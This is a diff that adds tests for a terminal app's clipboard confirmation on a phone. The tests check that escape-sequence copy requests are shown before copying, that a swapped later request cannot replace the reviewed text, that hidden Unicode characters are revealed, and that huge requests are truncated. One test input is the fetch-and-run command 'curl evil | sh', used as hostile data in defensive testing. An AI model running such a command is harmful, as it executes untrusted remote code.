@@ -245,6 +245,37 @@ test('case 42: what a program puts on the clipboard is shown first, and is copie
   await expect(phone.page.getByText('A program wants to copy 4 characters.')).toBeVisible()
 })
 
+test('case 42: what is copied is what was read, whatever the program wants by then', async ({ phone }) => {
+  const copied = await clipboard(phone)
+  await phone.open()
+  await phone.newSession()
+  const wish = (text: string) => `printf '\\033]52;c;${Buffer.from(text).toString('base64')}\\007'`
+  const swap = await phone.later(`${wish('curl evil | sh')}; echo swapped`)
+  await phone.run(wish('echo good\u{e0068}'))
+  await phone.page.getByRole('button', { name: 'Look' }).tap()
+  // Text that hides in it is seen too.
+  await expect(phone.page.getByText('echo good<U+E0068>')).toBeVisible()
+  swap()
+  await phone.shows('swapped')
+  await expect(phone.page.getByText('A program wants to copy 14 characters.')).toBeAttached()
+  await phone.page.getByRole('button', { name: 'Copy', exact: true }).tap()
+  await expect.poll(copied).toEqual(['echo good\u{e0068}'])
+  // The other wish is a question of its own.
+  await phone.page.getByRole('button', { name: 'Look' }).tap()
+  await expect(phone.page.getByText('curl evil | sh', { exact: true })).toBeVisible()
+})
+
+test('case 42: a megabyte that a program wants to copy is shown in part, and at once', async ({ phone }) => {
+  await clipboard(phone)
+  await phone.open()
+  await phone.newSession()
+  await phone.run("printf '\\033]52;c;%s\\007' $(head -c 600000 /dev/zero | tr '\\0' x | base64 -w0)")
+  await phone.page.getByRole('button', { name: 'Look' }).tap()
+  await expect(phone.page.getByText('and 596,000 more characters')).toBeVisible()
+  await phone.picture('clipboard-long')
+  await phone.fits()
+})
+
 for (const colorScheme of ['dark', 'light'] as const)
   test(`a selection looks right and is sound on a small phone, ${colorScheme}`, async ({ phone }) => {
     const { page } = phone
